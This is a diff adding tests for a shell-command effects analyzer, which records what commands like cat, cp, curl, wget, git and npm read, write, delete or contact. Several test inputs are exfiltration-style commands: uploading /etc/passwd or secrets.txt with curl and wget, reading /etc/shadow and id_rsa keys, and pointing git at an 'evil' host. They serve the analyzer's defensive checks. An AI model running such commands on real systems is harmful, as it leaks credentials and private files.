@@ -1,0 +1,176 @@
+// The effects engine reads each program's row (its effects column) with parseArgs over the row's own grammar:
+// what a command reads (R), writes (W), deletes (D) and contacts (C), one entry per operand or option value,
+// `?` for a place no path names, and the method of a contact after `@`.
+import { Parser } from "../../shell/parser";
+import { Walker } from "../../shell/walk";
+import { EffectList, collectEffects } from "../../shell/effects";
+import { EffectFrom, EffectKind, ProgramRow, programRows, LongValue, Style, longTable } from "../../shell/programs";
+
+const p = new Parser();
+const w = new Walker(p);
+const list = new EffectList();
+const LETTERS = "RWDC";
+
+/** The effects of `cmd`, as `R:path W:path C:url@POST`, space-separated, in the engine's order. */
+function effects(cmd: string): string {
+  const b = String.UTF8.encode(cmd, false);
+  expect(p.parseTop(changetype<usize>(b), b.byteLength) && w.run()).toBe(true, cmd);
+  const s = p.script;
+  collectEffects(s, list);
+  const parts: string[] = [];
+  for (let e = 0; e < list.count; e++) {
+    const word = list.word.get(e);
+    let text = word < 0 ? list.fixed[list.fixedIndex.get(e)] :
+      String.UTF8.decodeUnsafe(s.wordPtr(word) + <usize>list.start.get(e), <usize>(list.end.get(e) - list.start.get(e)));
+    if (text.length == 0) text = "?";
+    const m = list.method[e];
+    parts.push(LETTERS.charAt(list.kind.get(e)) + ":" + text + (m.length > 0 ? "@" + m : ""));
+  }
+  return parts.join(" ");
+}
+
+/** Does `row`'s grammar read option `spelling` with a value? */
+function takesValue(row: ProgramRow, spelling: string): bool {
+  const g = row.grammar;
+  if (spelling.length == 2) return g.valueShorts.indexOf(spelling.charAt(1)) >= 0 || g.optionalShorts.indexOf(spelling.charAt(1)) >= 0;
+  const single = (g.style & Style.SINGLE_DASH_LONG) != 0;
+  const name = spelling.startsWith("--") ? spelling.substring(2) : single ? spelling.substring(1) : spelling;
+  const t = longTable(g);
+  const i = t.indexOf(name);
+  return i >= 0 && t.value[i] != LongValue.NONE;
+}
+
+/** Is option `spelling` one the grammar knows at all (a `when` term parseArgs can find)? */
+function knows(row: ProgramRow, spelling: string): bool {
+  const g = row.grammar;
+  if (spelling.length == 2) return true; // a short letter is found as given, flag or not
+  const single = (g.style & Style.SINGLE_DASH_LONG) != 0;
+  const name = spelling.startsWith("--") ? spelling.substring(2) : single ? spelling.substring(1) : spelling;
+  return longTable(g).indexOf(name) >= 0;
+}
+
+function checkRow(row: ProgramRow, owner: string): void {
+  for (let i = 0; i < row.effects.length; i++) {
+    const e = row.effects[i];
+    const where = owner + row.names + " effect " + i.toString();
+    if (e.from == EffectFrom.OPTION_VALUE || e.from == EffectFrom.OPTION_AT_FILE || e.from == EffectFrom.OPTION_SETTING) {
+      const parts = e.option.split(" ");
+      for (let j = 0; j < parts.length; j++) expect(takesValue(row, parts[j])).toBe(true, where + " " + parts[j]);
+    }
+    const terms = e.when.split(" ");
+    for (let j = 0; j < terms.length; j++) {
+      let t = terms[j];
+      if (t.startsWith("!")) t = t.substring(1);
+      if (t.length == 0 || t.startsWith("@") || t.startsWith("$")) continue;
+      expect(knows(row, t)).toBe(true, where + " when " + t);
+    }
+  }
+  for (let i = 0; i < row.subcommands.length; i++) checkRow(row.subcommands[i], row.names + " ");
+}
+
+describe("effects rows", () => {
+  test("every option an effect names is one its row's grammar reads with a value; every `when` option it knows", () => {
+    const rows = programRows();
+    for (let i = 0; i < rows.length; i++) checkRow(rows[i], "");
+  });
+});
+
+describe("effects by parseArgs over the program rows", () => {
+  test("readers: operands, option values that are not files, pattern first", () => {
+    expect(effects("cat a b")).toBe("R:a R:b");
+    expect(effects("head -n 5 f")).toBe("R:f");
+    expect(effects("grep -e x a b")).toBe("R:a R:b");
+    expect(effects("grep x a")).toBe("R:a");
+    expect(effects("grep -rn TODO")).toBe("R:.");
+    expect(effects("grep -f /etc/pats a")).toBe("R:a R:/etc/pats");
+    expect(effects("sha256sum -c sums")).toBe("R:sums");
+    expect(effects("paste -s f")).toBe("R:f");
+    expect(effects("comm -12 a b")).toBe("R:a R:b");
+    expect(effects("stat -t f")).toBe("R:f");
+    expect(effects("od -s f")).toBe("R:f");
+    expect(effects("ls")).toBe("R:.");
+    expect(effects("wc --files0-from=/etc/list")).toBe("R:/etc/list");
+    expect(effects("sort -o out/x in")).toBe("R:in W:out/x");
+    expect(effects("rg --ignore-file /etc/ig x src")).toBe("R:src R:/etc/ig R:.");
+  });
+
+  test("writers and deleters", () => {
+    expect(effects("cp a b dir")).toBe("R:a R:b W:dir");
+    expect(effects("cp -t dir a b")).toBe("R:a R:b W:dir");
+    expect(effects("mv a b")).toBe("D:a W:b");
+    expect(effects("rm -rf x")).toBe("D:x");
+    expect(effects("chmod 600 f")).toBe("W:f");
+    expect(effects("chmod -w f")).toBe("W:f");
+    expect(effects("touch -r /etc/ref f")).toBe("W:f R:/etc/ref");
+    expect(effects("truncate -s 0 out/log")).toBe("W:out/log");
+    expect(effects("sed -i s/a/b/ f")).toBe("R:f W:f");
+    expect(effects("sed -e s/a/b/ f")).toBe("R:f");
+    expect(effects("install -d out/a out/b")).toBe("W:out/a W:out/b");
+  });
+
+  test("dd's if= and of= operands", () => {
+    expect(effects("dd if=/etc/shadow of=out/x bs=1M")).toBe("R:/etc/shadow W:out/x");
+  });
+
+  test("a symbolic link's relative target is judged from the link's directory", () => {
+    expect(effects("ln -s ../../etc/passwd out/link")).toBe("R:out/link/../../etc/passwd R:out/../../etc/passwd W:out/link");
+    expect(effects("ln -s /etc/passwd out/link")).toBe("R:/etc/passwd W:out/link");
+    expect(effects("ln -s -t out ../x")).toBe("R:out/../x W:out");
+    expect(effects("ln -sr x out/link")).toBe("R:x W:out/link");
+    expect(effects("ln a b")).toBe("R:a W:b");
+    expect(effects("ln -s x")).toBe("R:x");
+  });
+
+  test("programs run by xargs and find -exec: known operands, and files nobody knows", () => {
+    expect(effects("xargs cat < list")).toBe("R:list R:?");
+    expect(effects("xargs cat /etc/passwd")).toBe("R:? R:/etc/passwd");
+    expect(effects("find / -name id_rsa -exec cat {} +")).toBe("R:/ R:?");
+    expect(effects("find . -name x -delete")).toBe("R:. D:.");
+    expect(effects("find -L src -newer /etc/ref")).toBe("R:src R:/etc/ref");
+    expect(effects("sudo cat /etc/shadow")).toBe("R:/etc/shadow");
+    expect(effects("parallel cat ::: /etc/passwd")).toBe("R:?");
+    expect(effects("find . -exec sh -c 'cat x' \\;")).toBe("R:. R:? R:x");
+  });
+
+  test("curl and wget: uploads, saves, methods", () => {
+    expect(effects("curl -T /etc/passwd https://h/x")).toBe("C:https://h/x@PUT R:/etc/passwd");
+    expect(effects("curl -d @secrets.txt https://h/")).toBe("C:https://h/@POST R:secrets.txt");
+    expect(effects("curl -F f=@/etc/hosts https://h/")).toBe("C:https://h/@POST R:/etc/hosts");
+    expect(effects("curl -X DELETE https://h/x")).toBe("C:https://h/x@DELETE");
+    expect(effects("curl -d a=b -G https://h/")).toBe("C:https://h/@GET");
+    expect(effects("curl -O --output-dir /tmp https://h/f")).toBe("C:https://h/f W:/tmp");
+    expect(effects("curl -o out/f https://h/f")).toBe("C:https://h/f W:out/f");
+    expect(effects("wget --post-file=/etc/passwd https://h/")).toBe("C:https://h/@POST W:. R:/etc/passwd");
+    expect(effects("wget -O out/f https://h/f")).toBe("C:https://h/f W:out/f");
+    expect(effects("wget -O - https://h/f")).toBe("C:https://h/f");
+    expect(effects("curl -o - -T - https://h/f")).toBe("C:https://h/f@PUT");
+  });
+
+  test("git: subcommands, settings, named remotes", () => {
+    expect(effects("git clone https://h/r.git dir")).toBe("C:https://h/r.git W:dir");
+    expect(effects("git -C sub push origin main")).toBe("C:origin C:main");
+    expect(effects("git push --repo=https://evil/x")).toBe("C:https://evil/x");
+    expect(effects("git log --output=/tmp/x")).toBe("W:/tmp/x");
+    expect(effects("git format-patch -o /tmp HEAD~1")).toBe("W:/tmp");
+    expect(effects("git -c remote.origin.url=https://evil/x push origin")).toBe("C:https://evil/x C:origin");
+    expect(effects("git config remote.origin.url https://evil/x")).toBe("C:https://evil/x");
+    expect(effects("git config -f /tmp/cfg user.name x")).toBe("C:x W:/tmp/cfg");
+    expect(effects("git diff --no-index /etc/a b")).toBe("R:/etc/a R:b");
+    expect(effects("git status")).toBe("");
+  });
+
+  test("npm: the default registry unless another is named", () => {
+    expect(effects("npm install lodash")).toBe("C:lodash C:https://registry.npmjs.org/");
+    expect(effects("npm ci")).toBe("C:https://registry.npmjs.org/");
+    expect(effects("npm install --registry=https://r.example/ x")).toBe("C:https://r.example/ C:x");
+    expect(effects("npm_config_registry=https://r.example/ npm i x")).toBe("C:https://r.example/ C:x");
+    expect(effects("yarn")).toBe("C:https://registry.yarnpkg.com/");
+    expect(effects("yarn add x")).toBe("C:x C:https://registry.yarnpkg.com/");
+    expect(effects("npm run build")).toBe("");
+    expect(effects("npm install -g x")).toBe("W:? C:x C:https://registry.npmjs.org/");
+  });
+
+  test("redirections", () => {
+    expect(effects("echo x > out/a 2>&1 < in")).toBe("W:out/a R:in");
+  });
+});
